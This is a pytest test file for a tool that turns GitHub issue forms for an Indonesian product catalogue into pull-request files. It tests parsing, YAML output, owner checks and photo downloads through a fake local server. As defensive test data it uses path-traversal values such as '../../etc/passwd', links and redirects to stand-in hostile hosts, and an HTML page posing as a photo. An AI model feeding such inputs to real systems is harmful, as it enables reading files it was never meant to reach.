"""Issue 13: an issue becomes files for a pull request (forms, attachments, submission, replies).

Recorded `issues` events (tests/fixtures/issues/*.json, shaped like GitHub's webhook payload) go
through read_submission; attached photos come from a local http.server that stands in for
GitHub's attachment hosts (Downloader's test origin: every address is still checked against the
real hosts, only the connection goes to 127.0.0.1).
"""

from __future__ import annotations

import ast
import dataclasses
import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from catalogue_gen import (
    answers,
    attachments,
    categories,
    forms,
    regencies,
    replies,
    rules,
    submission,
)
from catalogue_gen.attachments import Downloader
from catalogue_gen.load import MAX_PHOTO_BYTES, is_valid_slug, load_yaml
from catalogue_gen.pipeline import check, generate
from catalogue_gen.problems import Level, Problem
from catalogue_gen.settings import Settings
from catalogue_gen.submission import Submission, read_submission
from catalogue_gen.yamltext import Plain, loads_back, render_yaml, replace_keys

from .conftest import REPO, photo_bytes, write_tree

FIXTURES = Path(__file__).parent / "fixtures" / "issues"
FORMS = forms.load_forms(REPO / forms.FORMS_DIR)
UUID_JPEG = "5b0c3b8e-1f2a-4c3d-9e8f-0a1b2c3d4e01"
UUID_PNG = "5b0c3b8e-1f2a-4c3d-9e8f-0a1b2c3d4e02"
UUID_BIG = "5b0c3b8e-1f2a-4c3d-9e8f-0a1b2c3d4e30"
UUID_AWAY = "5b0c3b8e-1f2a-4c3d-9e8f-0a1b2c3d4e66"
ASSETS = "/github.com/user-attachments/assets/"
PRIVATE_PNG = "https://private-user-images.githubusercontent.com/12345/5b0c3b8e-02.png?jwt=eyJ0"
JPEG = photo_bytes(1000, 800, "JPEG")
PNG = photo_bytes(1000, 800, "PNG", color=(40, 120, 180))
BIG = 30 * 1024 * 1024
MODULES = ("forms", "answers", "attachments", "yamltext", "submission", "replies")


def event(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((FIXTURES / f"{name}.json").read_text(encoding="utf-8"))
    return data


def codes(result: Submission, field_id: str | None = None) -> list[str]:
    return [p.code for p in result.problems if field_id is None or p.field == field_id]


# A stand-in for GitHub's attachment hosts ----------------------------------------------------

Route = Callable[[BaseHTTPRequestHandler], None]


@dataclasses.dataclass
class FakeGitHub:
    """Routes by `/<host><path>`, as Downloader's test origin sends them; records every request."""

    origin: str = ""
    routes: dict[str, Route] = dataclasses.field(default_factory=dict)
    requests: list[str] = dataclasses.field(default_factory=list)
    sent: dict[str, int] = dataclasses.field(default_factory=dict)
    done: dict[str, threading.Event] = dataclasses.field(default_factory=dict)

    def downloader(self, **options: Any) -> Downloader:
        return Downloader(test_origin=self.origin, **options)


def serve(data: bytes, content_type: str) -> Route:
    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(data)))
        handler.end_headers()
        handler.wfile.write(data)

    return route


def redirect(location: str, status: int = 302) -> Route:
    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Location", location)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return route


def stream(github: FakeGitHub, key: str, total: int, declare: bool = False) -> Route:
    """A JPEG-looking body of `total` bytes, without Content-Length unless `declare`."""

    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "image/jpeg")
        if declare:
            handler.send_header("Content-Length", str(total))
        handler.end_headers()
        chunk = b"\xff\xd8\xff\xe0" + bytes(64 * 1024 - 4)
        sent = 0
        try:
            while sent < total:
                handler.wfile.write(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass
        finally:
            github.sent[key] = sent
            github.done[key].set()

    github.done[key] = threading.Event()
    return route


class Handler(BaseHTTPRequestHandler):
    server: Any

    def do_GET(self) -> None:
        github: FakeGitHub = self.server.github
        github.requests.append(self.path)
        route = github.routes.get(self.path)
        if route is None:
            self.send_error(404)
            return
        route(self)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    fake = FakeGitHub(origin=f"http://127.0.0.1:{server.server_address[1]}")
    server.github = fake  # type: ignore[attr-defined]
    fake.routes = {
        ASSETS + UUID_JPEG: serve(JPEG, "image/jpeg"),
        # GitHub's usual answer: a redirect to signed storage
        ASSETS + UUID_PNG: redirect(PRIVATE_PNG),
        "/private-user-images.githubusercontent.com/12345/5b0c3b8e-02.png?jwt=eyJ0": serve(
            PNG, "image/png"
        ),
        ASSETS + UUID_BIG: stream(fake, "big", BIG),
        ASSETS + UUID_AWAY: redirect("https://evil.example.net/foto.jpg"),
        "/user-images.githubusercontent.com/12345/224466880-0a1b2c3d-foto.jpg": serve(
            b"<!DOCTYPE html><html><body>Bukan foto</body></html>" * 50, "image/jpeg"
        ),
    }
    # a short poll: shutdown() waits for it, once per test
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    yield fake
    server.shutdown()
    server.server_close()


def submit(
    name: str, settings_: Settings, github: FakeGitHub, **changes: Any
) -> tuple[Submission, dict[str, Any]]:
    data = event(name)
    data["issue"].update(changes)
    return read_submission(data, FORMS, settings_, github.downloader()), data


def validate(settings_: Settings, result: Submission) -> list[Problem]:
    submission.write_files(result, settings_.root)
    return list(check(settings_).problems)


# The forms --------------------------------------------------------------------------------------


def test_three_forms_load_with_unique_labels() -> None:
    assert sorted(FORMS) == ["daftarkan-produk", "daftarkan-produsen", "ubah-harga"]
    assert sorted(submission.BUILDERS) == sorted(FORMS)
    for form in FORMS.values():
        labels = [f.label for f in form.fields]
        assert len(labels) == len(set(labels)), form.key
        assert form.labels, form.key


@pytest.mark.parametrize("key", ["daftarkan-produk", "daftarkan-produsen"])
def test_regency_dropdown_lists_what_the_validator_accepts(key: str) -> None:
    assert FORMS[key].field("kabupaten").options == tuple(r.slug for r in regencies.REGENCIES)  # type: ignore[union-attr]


def test_category_dropdown_lists_what_the_validator_accepts() -> None:
    field = FORMS["daftarkan-produk"].field("kategori")
    assert field is not None and field.options == tuple(c.slug for c in categories.CATEGORIES)


def test_every_halal_choice_and_stock_answer_is_understood() -> None:
    halal = FORMS["daftarkan-produk"].field("halal")
    assert halal is not None
    statuses = [
        next(s for start, s in submission.HALAL_CHOICES if option.startswith(start))
        for option in halal.options
    ]
    assert statuses == ["bersertifikat", "dalam-proses", "tidak-halal", ""]
    assert set(statuses) - {""} == set(rules.HALAL_STATUSES)
    stock = FORMS["ubah-harga"].field("tersedia")
    assert stock is not None and stock.options == tuple(submission.AVAILABILITY)


def test_producer_form_fields_are_the_keys_of_produsen_yml() -> None:
    ids = {f.id for f in FORMS["daftarkan-produsen"].fields}
    keys = set(rules.PRODUCER_KEYS) - {"kontak"} | set(rules.CONTACT_KEYS)
    assert ids - {"pernyataan"} == keys


def test_price_form_asks_for_address_prices_and_stock() -> None:
    form = FORMS["ubah-harga"]
    assert [(f.id, f.type, f.is_required) for f in form.fields] == [
        ("alamat_produk", "input", True),
        ("harga", "textarea", False),
        ("tersedia", "dropdown", True),
    ]


# Bodies -----------------------------------------------------------------------------------------


def test_answers_are_read_by_the_labels_of_the_template() -> None:
    issue, problems = forms.parse_event(event("produk-baru"))
    assert issue is not None and problems == []
    assert (issue.number, issue.author, issue.labels) == (41, "ibu-madu-nenas", ("produk baru",))
    form = forms.find_form(issue.body, FORMS)
    assert form is not None and form.key == "daftarkan-produk"
    answers = forms.parse_answers(issue.body, form)
    assert answers.problems == []
    assert answers.get("akun_github") == ""  # _No response_
    assert answers.get("kategori") == "pangan-olahan"
    assert answers.get("deskripsi").split("\n") == [
        "Madu dipanen dari sarang lebah hutan dengan cara tradisional.",
        "",
        "Simpan di tempat sejuk, jauh dari sinar matahari.",
    ]
    assert len(answers.checked["pernyataan"]) == 3


def test_crlf_bodies_and_unticked_statements() -> None:
    data = event("produk-baru")
    body = data["issue"]["body"].replace("- [X] Foto", "- [ ] Foto").replace("\n", "\r\n")
    issue, _ = forms.parse_event({**data, "issue": {**data["issue"], "body": body}})
    assert issue is not None and "\r" not in issue.body
    answers = forms.parse_answers(issue.body, FORMS["daftarkan-produk"])
    assert [(p.field, p.code) for p in answers.problems] == [("pernyataan", "ISSUE_UNCHECKED")]
    assert answers.problems[0].message.startswith('"Foto-foto ini milik saya')


def test_a_heading_typed_inside_an_answer_is_refused_not_guessed() -> None:
    body = event("produk-baru")["issue"]["body"].replace(
        "Simpan di tempat sejuk", "### Harga\n\n1 ml: 1\n\nSimpan di tempat sejuk"
    )
    answers = forms.parse_answers(body, FORMS["daftarkan-produk"])
    (problem,) = answers.problems
    assert (problem.field, problem.code) == ("harga", "ISSUE_HEADING_TWICE")
    assert str(problem) == (
        'Harga: judul "### Harga" muncul 2 kali; edit issue dan hapus judul yang bukan buatan formulir'
    )
    assert "harga" not in answers.values


def test_a_dropdown_answer_must_be_one_of_its_options() -> None:
    body = event("produk-baru")["issue"]["body"].replace("pangan-olahan", "makanan")
    answers = forms.parse_answers(body, FORMS["daftarkan-produk"])
    (problem,) = answers.problems
    assert problem.code == "ISSUE_OPTION_UNKNOWN" and answers.get("kategori") == ""
    assert str(problem).startswith('Kategori: "makanan" bukan salah satu pilihan;')


@pytest.mark.parametrize(
    "data",
    [
        None,
        [],
        "issue",
        {"action": "opened"},
        {"issue": {"number": "41", "body": "", "user": {"login": "x"}}},
        {"issue": {"number": 41, "body": 7, "user": {"login": "x"}}},
        {"issue": {"number": 41, "body": "", "user": "x"}},
    ],
)
def test_anything_but_an_issue_event_is_a_problem_not_a_crash(data: object, tmp_path: Path) -> None:
    result = read_submission(data, FORMS, Settings.for_project(tmp_path), Downloader())
    assert codes(result) == ["ISSUE_NOT_AN_EVENT"] and result.files == {}


def test_a_body_not_written_by_a_form_is_named_so(tmp_path: Path) -> None:
    data = event("produk-baru")
    data["issue"]["body"] = "Tolong daftarkan madu saya. WA 0812 3456 7890"
    result = read_submission(data, FORMS, Settings.for_project(tmp_path), Downloader())
    assert codes(result) == ["ISSUE_FORM_UNKNOWN"]
    assert "Daftarkan produk" in result.problems[0].message


def test_a_body_longer_than_github_allows_is_refused() -> None:
    answers = forms.parse_answers("x" * (forms.MAX_BODY + 1), FORMS["ubah-harga"])
    assert [p.code for p in answers.problems] == ["ISSUE_BODY_TOO_LONG"]


# A new product ----------------------------------------------------------------------------------


def test_new_product_with_two_photos(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    result, _ = submit("produk-baru", settings_, github)
    assert result.problems == [] and result.is_ready and not result.is_change
    folder = "products/kelompok-tani-madu-nenas/madu-hutan-nenas"
    assert (result.producer, result.product, result.folder) == (
        "kelompok-tani-madu-nenas",
        "madu-hutan-nenas",
        folder,
    )
    assert sorted(result.files) == [
        f"{folder}/foto-1.jpg",
        f"{folder}/foto-2.png",
        f"{folder}/produk.yml",
        "products/kelompok-tani-madu-nenas/produsen.yml",
    ]
    assert result.files[f"{folder}/foto-1.jpg"] == JPEG
    assert result.files[f"{folder}/foto-2.png"] == PNG
    # the second photo came through GitHub's redirect to its signed storage
    assert github.requests == [
        ASSETS + UUID_JPEG,
        ASSETS + UUID_PNG,
        "/private-user-images.githubusercontent.com/12345/5b0c3b8e-02.png?jwt=eyJ0",
    ]
    assert yaml.safe_load(result.files[f"{folder}/produk.yml"]) == {
        "nama": "Madu Hutan Nenas",
        "kategori": "pangan-olahan",
        "ringkasan": "Madu hutan murni dari lereng Gunung Mutis di Nenas.",
        "deskripsi": "Madu dipanen dari sarang lebah hutan dengan cara tradisional.\n\n"
        "Simpan di tempat sejuk, jauh dari sinar matahari.",
        "foto": ["foto-1.jpg", "foto-2.png"],
        "harga": [{"varian": "250 ml", "rupiah": 75000}, {"varian": "500 ml", "rupiah": 140000}],
        "komposisi": ["madu hutan"],
        "izin": [{"jenis": "pirt", "nomor": "P-IRT No. 2065302010052-29"}],
        "halal": {"nomor": "ID53110012345670825"},
        "kata_kunci": ["madu", "honey"],
        "tersedia": True,
    }
    # without an account in the form, the account that filed the issue owns the new folder
    assert yaml.safe_load(result.files["products/kelompok-tani-madu-nenas/produsen.yml"]) == {
        "nama": "Kelompok Tani Madu Nenas",
        "kabupaten": "timor-tengah-selatan",
        "kontak": {"whatsapp": "0812-3456-7891"},
        "akun_github": ["ibu-madu-nenas"],
    }


def test_ingredients_keywords_and_stock_are_read_as_the_site_form_writes_them(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    """The site's form sends komposisi on one line with commas, and an unticked stock box as
    "tidak"; a producer typing on GitHub may put one ingredient per line instead."""
    data = event("produk-baru")
    data["issue"]["body"] = (
        data["issue"]["body"]
        .replace("### Isi bersih\n\n_No response_", "### Isi bersih\n\n250 ml")
        .replace("### Komposisi\n\nmadu hutan", "### Komposisi\n\nmadu hutan, air\n- propolis")
        .replace("### Stok tersedia?\n\nya", "### Stok tersedia?\n\ntidak")
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert result.problems == []
    written = yaml.safe_load(
        result.files["products/kelompok-tani-madu-nenas/madu-hutan-nenas/produk.yml"]
    )
    assert written["isi_bersih"] == "250 ml"
    assert written["komposisi"] == ["madu hutan", "air", "propolis"]
    assert written["kata_kunci"] == ["madu", "honey"]
    assert written["tersedia"] is False


def test_the_written_product_file_reads_like_a_hand_written_one(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("produk-baru", make_catalogue(), github)
    text = result.files["products/kelompok-tani-madu-nenas/madu-hutan-nenas/produk.yml"].decode()
    assert text.splitlines()[2:] == [
        'nama: "Madu Hutan Nenas"',
        "kategori: pangan-olahan",
        'ringkasan: "Madu hutan murni dari lereng Gunung Mutis di Nenas."',
        "deskripsi: |-",
        "  Madu dipanen dari sarang lebah hutan dengan cara tradisional.",
        "",
        "  Simpan di tempat sejuk, jauh dari sinar matahari.",
        "foto:",
        '  - "foto-1.jpg"',
        '  - "foto-2.png"',
        "harga:",
        '  - varian: "250 ml"',
        "    rupiah: 75000",
        '  - varian: "500 ml"',
        "    rupiah: 140000",
        "komposisi:",
        '  - "madu hutan"',
        "izin:",
        "  - jenis: pirt",
        '    nomor: "P-IRT No. 2065302010052-29"',
        "halal:",
        '  nomor: "ID53110012345670825"',
        "kata_kunci:",
        '  - "madu"',
        '  - "honey"',
        "tersedia: true",
    ]
    assert text.splitlines()[1] == "# Dibuat dari issue #41 oleh catalogue-gen from-issue."


def test_the_sample_product_validates_with_no_galat(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    result, _ = submit("produk-baru", settings_, github)
    problems = validate(settings_, result)
    assert [str(p) for p in problems if p.is_error] == []
    assert [str(p) for p in problems] == []


def test_the_sample_product_page_is_the_page_of_the_same_data_written_by_hand(
    make_catalogue: Callable[..., Settings],
    github: FakeGitHub,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    settings_ = make_catalogue()
    result, _ = submit("produk-baru", settings_, github)
    submission.write_files(result, settings_.root)
    by_hand = tmp_path_factory.mktemp("by-hand")
    folder = "products/kelompok-tani-madu-nenas/madu-hutan-nenas"
    write_tree(
        by_hand,
        {
            **{rel: data for rel, data in result.files.items() if not rel.endswith(".yml")},
            "products/kelompok-tani-madu-nenas/produsen.yml": (
                "nama: Kelompok Tani Madu Nenas\nkabupaten: timor-tengah-selatan\n"
                'kontak:\n  whatsapp: "0812-3456-7891"\nakun_github: [ibu-madu-nenas]\n'
            ),
            f"{folder}/produk.yml": (
                "nama: Madu Hutan Nenas\nkategori: pangan-olahan\n"
                "ringkasan: Madu hutan murni dari lereng Gunung Mutis di Nenas.\n"
                "deskripsi: |\n  Madu dipanen dari sarang lebah hutan dengan cara tradisional.\n\n"
                "  Simpan di tempat sejuk, jauh dari sinar matahari.\n"
                "foto:\n  - foto-1.jpg\n  - foto-2.png\n"
                "harga:\n  - {varian: 250 ml, rupiah: 75000}\n  - {varian: 500 ml, rupiah: 140000}\n"
                "komposisi: [madu hutan]\n"
                'izin:\n  - jenis: pirt\n    nomor: "P-IRT No. 2065302010052-29"\n'
                'halal: {nomor: "ID53110012345670825"}\n'
                "kata_kunci: [madu, honey]\ntersedia: true\n"
            ),
        },
    )
    for path in (settings_.root / "products/kelompok-contoh").rglob("*"):
        if path.is_file():
            target = by_hand / path.relative_to(settings_.root)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    pages = []
    for root in (settings_.root, by_hand):
        built = dataclasses.replace(
            Settings.for_project(root, site_url="https://contoh.github.io/katalog/"), workers=1
        )
        generate(built)
        pages.append(
            (
                built.docs_dir / "produk/kelompok-tani-madu-nenas/madu-hutan-nenas/index.md"
            ).read_text(encoding="utf-8")
        )
    assert pages[0] == pages[1]
    assert "Madu Hutan Nenas" in pages[0] and "Rp75.000" in pages[0]
    assert "madu hutan" in pages[0]  # komposisi is shown


def test_a_product_of_a_known_producer_is_added_to_its_folder(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    # "Kelompok Tani Contoh" is the `nama` of products/kelompok-contoh/produsen.yml
    settings_ = make_catalogue()
    data = event("produk-baru")
    data["issue"]["body"] = data["issue"]["body"].replace(
        "Kelompok Tani Madu Nenas", "kelompok  tani CONTOH"
    )
    result = read_submission(data, FORMS, settings_, github.downloader())
    assert (result.producer, result.is_change) == ("kelompok-contoh", True)
    assert sorted(result.files) == [
        "products/kelompok-contoh/madu-hutan-nenas/foto-1.jpg",
        "products/kelompok-contoh/madu-hutan-nenas/foto-2.png",
        "products/kelompok-contoh/madu-hutan-nenas/produk.yml",
    ]
    assert validate(settings_, result) == []
    # a change to someone's folder: the workflow checks the author against akun_github
    accounts = replies.producer_accounts(settings_, "kelompok-contoh")
    assert accounts == ("uji-katalog",)
    problem = replies.check_owner(result, accounts)
    assert problem is not None and problem.code == "ISSUE_NOT_OWNER"


def test_a_product_that_exists_already_is_not_overwritten(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    data = event("produk-baru")
    data["issue"]["body"] = (
        data["issue"]["body"]
        .replace("Kelompok Tani Madu Nenas", "Kelompok Contoh")
        .replace("### Nama produk\n\nMadu Hutan Nenas", "### Nama produk\n\nMadu")
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert codes(result) == ["ISSUE_PRODUCT_EXISTS"] and result.files == {}
    assert github.requests == []


@pytest.mark.parametrize(
    ("name", "template"),
    [("$$$ ###", "ISSUE_NO_SLUG"), ("蜂蜜", "ISSUE_NO_SLUG"), ("Kategori", "ISSUE_SLUG_RESERVED")],
)
def test_a_name_that_makes_no_folder_name_is_told(
    name: str, template: str, make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    data = event("produk-baru")
    data["issue"]["body"] = data["issue"]["body"].replace(
        "### Nama produk\n\nMadu Hutan Nenas", f"### Nama produk\n\n{name}"
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert codes(result, "nama") == [template]
    assert not any(rel.endswith("produk.yml") for rel in result.files)


# A price change ---------------------------------------------------------------------------------

HAND_WRITTEN = """\
# Madu kami: diperiksa tiap bulan
nama: Madu Hutan Contoh
kategori: pangan-olahan
ringkasan: Madu hutan murni dari Fatumnasi.
deskripsi: |
  Madu dipanen dari hutan.

  Simpan di tempat sejuk.
foto:  # yang pertama menjadi sampul
  - berkas: depan.jpg
    keterangan: Botol madu
harga:
  - varian: 250 ml
    rupiah: 75000
# izin di bawah disalin dari label
izin:
  - jenis: pirt
    nomor: "2065302010052-29"
halal:
  nomor: "ID53110012345670825"
tersedia: true
kata_kunci: [madu, honey]
"""


def test_a_price_change_keeps_the_rest_of_the_file(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue({"products/kelompok-contoh/madu/produk.yml": HAND_WRITTEN})
    result, _ = submit("ubah-harga", settings_, github)
    assert result.problems == [] and result.is_change
    (rel,) = result.files
    assert rel == "products/kelompok-contoh/madu/produk.yml"
    edited = result.files[rel].decode()
    # every other line, comments included, is kept byte for byte; only the two keys change
    assert edited.splitlines() == [
        *HAND_WRITTEN.splitlines()[:11],
        "harga:",
        '  - varian: "250 ml"',
        "    rupiah: 80000",
        '  - varian: "500 ml"',
        "    rupiah: 150000",
        *HAND_WRITTEN.splitlines()[14:20],
        "tersedia: false",
        "kata_kunci: [madu, honey]",
    ]
    assert validate(settings_, result) == []


def test_the_owner_may_change_prices_and_a_stranger_may_not(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    accounts = replies.producer_accounts(settings_, "kelompok-contoh")
    own, _ = submit("ubah-harga", settings_, github)
    assert replies.check_owner(own, accounts) is None
    other, _ = submit("ubah-harga-orang-lain", settings_, github)
    assert other.is_ready and other.files == own.files  # the same change, asked by someone else
    problem = replies.check_owner(other, accounts, maintainers=("pengelola-satu",))
    assert problem is not None and problem.code == "ISSUE_NOT_OWNER"
    assert str(problem) == (
        "hanya akun GitHub yang tercatat untuk usaha ini (uji-katalog, di akun_github "
        "products/kelompok-contoh/produsen.yml) yang boleh mengubahnya; minta salah satunya "
        "mengirim issue ini, atau tunggu pengelola menyetujuinya dengan label disetujui-pengelola"
    )
    assert replies.check_owner(other, accounts, is_approved=True) is None
    assert replies.check_owner(other, accounts, maintainers=("Orang-Lain",)) is None


def test_stock_alone_can_change(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue({"products/kelompok-contoh/madu/produk.yml": HAND_WRITTEN})
    data = event("ubah-harga")
    data["issue"]["body"] = data["issue"]["body"].replace("250 ml: 80000\n500 ml: Rp150.000", "")
    result = read_submission(data, FORMS, settings_, github.downloader())
    edited = result.files["products/kelompok-contoh/madu/produk.yml"].decode()
    assert edited == HAND_WRITTEN.replace("tersedia: true", "tersedia: false")


def test_a_missing_key_is_added_and_crlf_is_kept(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    from .conftest import PRODUCT_YML

    crlf = PRODUCT_YML.replace("\n", "\r\n")
    settings_ = make_catalogue({"products/kelompok-contoh/madu/produk.yml": crlf.encode()})
    result, _ = submit("ubah-harga", settings_, github)
    edited = result.files["products/kelompok-contoh/madu/produk.yml"].decode()
    assert edited.endswith("tersedia: false\r\n")
    assert edited.startswith(crlf.split("harga:")[0])
    assert validate(settings_, result) == []


def test_nothing_to_change_is_said(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    same = HAND_WRITTEN.replace("tersedia: true", "tersedia: false").replace(
        "  - varian: 250 ml\n    rupiah: 75000\n",
        '  - varian: "250 ml"\n    rupiah: 80000\n  - varian: "500 ml"\n    rupiah: 150000\n',
    )
    settings_ = make_catalogue({"products/kelompok-contoh/madu/produk.yml": same})
    result, _ = submit("ubah-harga", settings_, github)
    assert codes(result) == ["ISSUE_NOTHING_CHANGED"] and result.files == {}


def test_a_broken_product_file_is_left_to_the_maintainers(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue({"products/kelompok-contoh/madu/produk.yml": "nama: [rusak\n"})
    result, _ = submit("ubah-harga", settings_, github)
    assert codes(result) == ["ISSUE_PRODUCT_UNREADABLE"] and result.files == {}


@pytest.mark.parametrize(
    "address",
    [
        "https://beli-produk-ntt.github.io/katalog/produk/kelompok-contoh/madu/",
        "https://contoh.github.io/katalog/produk/kelompok-contoh/madu/?utm=wa#harga",
        "produk/kelompok-contoh/madu/",
        "/produk/kelompok-contoh/madu",
        "<produk/kelompok-contoh/madu/>",
        "products/kelompok-contoh/madu/produk.yml",
        "https://github.com/beli-produk-ntt/katalog/blob/main/products/kelompok-contoh/madu/produk.yml",
    ],
)
def test_a_product_is_chosen_by_its_address(address: str) -> None:
    assert answers.parse_product_address(address) == ("kelompok-contoh", "madu")


@pytest.mark.parametrize(
    "address",
    [
        "produk/kelompok-contoh/",
        "produk/../../etc/passwd",
        "produk/kelompok-contoh/../madu",
        "produk/Kelompok Contoh/madu",
        "produk/kelompok-contoh/madu/lain/",
        "produsen/kelompok-contoh/madu/",
        "produk/kelompok-contoh/madu%2F..",
        "https://[::1/produk/a/b",
        "madu",
    ],
)
def test_anything_else_is_no_product_address(address: str) -> None:
    assert answers.parse_product_address(address) is None


def test_an_address_of_no_product_is_told(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    data = event("ubah-harga")
    data["issue"]["body"] = data["issue"]["body"].replace(
        "kelompok-contoh/madu", "kelompok-contoh/kopi"
    )
    result = read_submission(data, FORMS, settings_, github.downloader())
    assert codes(result) == ["ISSUE_PRODUCT_MISSING"]
    data["issue"]["body"] = data["issue"]["body"].replace(
        "https://contoh.github.io/katalog/produk/kelompok-contoh/kopi/", "../../etc/passwd"
    )
    result = read_submission(data, FORMS, settings_, github.downloader())
    assert codes(result) == ["ISSUE_ADDRESS_BAD"]
    assert str(result.problems[0]).startswith('Alamat halaman produk: "../../etc/passwd" bukan')


# A new producer ---------------------------------------------------------------------------------


def test_new_producer_with_a_logo(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    result, _ = submit("produsen-baru", settings_, github)
    assert result.problems == [] and not result.is_change
    assert sorted(result.files) == [
        "products/koperasi-tenun-ina-ndao/logo.png",
        "products/koperasi-tenun-ina-ndao/produsen.yml",
    ]
    assert yaml.safe_load(result.files["products/koperasi-tenun-ina-ndao/produsen.yml"]) == {
        "nama": "Koperasi Tenun Ina Ndao",
        "kabupaten": "rote-ndao",
        "alamat": "Desa Ndao, Kecamatan Ndao Nuse",
        "kontak": {
            "whatsapp": "0813-3900-0200",
            "email": "tenun.inandao@example.com",
            "instagram": "@tenuninandao",
        },
        "tentang": "Dua puluh penenun di Pulau Ndao.\n\nKami menenun kain ikat dengan pewarna alam.",
        "logo": "logo.png",
        "akun_github": ["ina-ndao"],
    }
    assert [str(p) for p in validate(settings_, result) if p.is_error] == []


def test_a_registered_producer_is_not_registered_again(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    data = event("produsen-baru")
    data["issue"]["body"] = data["issue"]["body"].replace(
        "Koperasi Tenun Ina Ndao", "Kelompok Tani Contoh"
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert codes(result) == ["ISSUE_PRODUCER_EXISTS"] and result.files == {}


# Photos that are refused ------------------------------------------------------------------------


def test_photos_on_foreign_hosts_are_refused_without_a_request(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("foto-host-asing", make_catalogue(), github)
    assert codes(result) == ["ISSUE_PHOTO_FOREIGN"] * 5
    assert github.requests == []
    assert str(result.problems[0]) == (
        'Foto produk: foto ke-1 "https://evil.example.com/foto-madu.jpg" tidak diunggah ke '
        "GitHub; hapus tautan itu, lalu seret file fotonya langsung ke kotak ini"
    )
    assert not any(rel.endswith((".jpg", ".png")) for rel in result.files)
    assert "foto" not in yaml.safe_load(
        result.files["products/kelompok-tani-madu-nenas/madu-hutan-nenas/produk.yml"]
    )


def test_a_30_mb_photo_is_refused_and_the_download_stops_early(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("foto-30mb", make_catalogue(), github)
    assert codes(result) == ["ISSUE_PHOTO_TOO_BIG"]
    assert str(result.problems[0]).startswith("Foto produk: foto ke-1 lebih besar dari 10 MB;")
    (download,) = result.downloads
    assert MAX_PHOTO_BYTES < download.bytes_read <= MAX_PHOTO_BYTES + attachments.CHUNK_BYTES
    assert github.done["big"].wait(10)
    assert github.sent["big"] < BIG  # the server saw the connection close before the end


def test_a_photo_declared_too_big_is_not_read_at_all(github: FakeGitHub) -> None:
    github.routes[ASSETS + UUID_BIG] = stream(github, "declared", BIG, declare=True)
    download = github.downloader().fetch("https://github.com/user-attachments/assets/" + UUID_BIG)
    assert (download.refusal, download.bytes_read) == ("ISSUE_PHOTO_TOO_BIG", 0)


def test_html_named_jpg_is_refused_after_its_first_bytes(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("foto-html", make_catalogue(), github)
    assert codes(result) == ["ISSUE_PHOTO_NOT_PHOTO"]
    assert "(isinya halaman web (HTML))" in result.problems[0].message
    assert result.downloads[0].bytes_read <= attachments.CHUNK_BYTES


def test_a_redirect_to_a_foreign_host_is_not_followed(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("foto-alih-asing", make_catalogue(), github)
    assert codes(result) == ["ISSUE_PHOTO_REDIRECT_FOREIGN"]
    assert github.requests == [ASSETS + UUID_AWAY]
    assert str(result.problems[0]) == (
        "Foto produk: foto ke-1 dialihkan ke https://evil.example.net, di luar GitHub, jadi "
        "tidak diambil; hapus foto itu dan seret file fotonya lagi ke kotak ini"
    )


URL = "https://github.com/user-attachments/assets/" + UUID_JPEG


@pytest.mark.parametrize(
    ("route", "refusal"),
    [
        (
            redirect("http://private-user-images.githubusercontent.com/1/a.png"),
            "ISSUE_PHOTO_REDIRECT_FOREIGN",
        ),
        (redirect("//evil.example.net/a.png"), "ISSUE_PHOTO_REDIRECT_FOREIGN"),
        (redirect("https://github.com/login?return_to=x"), "ISSUE_PHOTO_REDIRECT_FOREIGN"),
        (redirect(""), "ISSUE_PHOTO_REDIRECT_FOREIGN"),
        (redirect("/user-attachments/assets/" + UUID_JPEG), "ISSUE_PHOTO_UNAVAILABLE"),
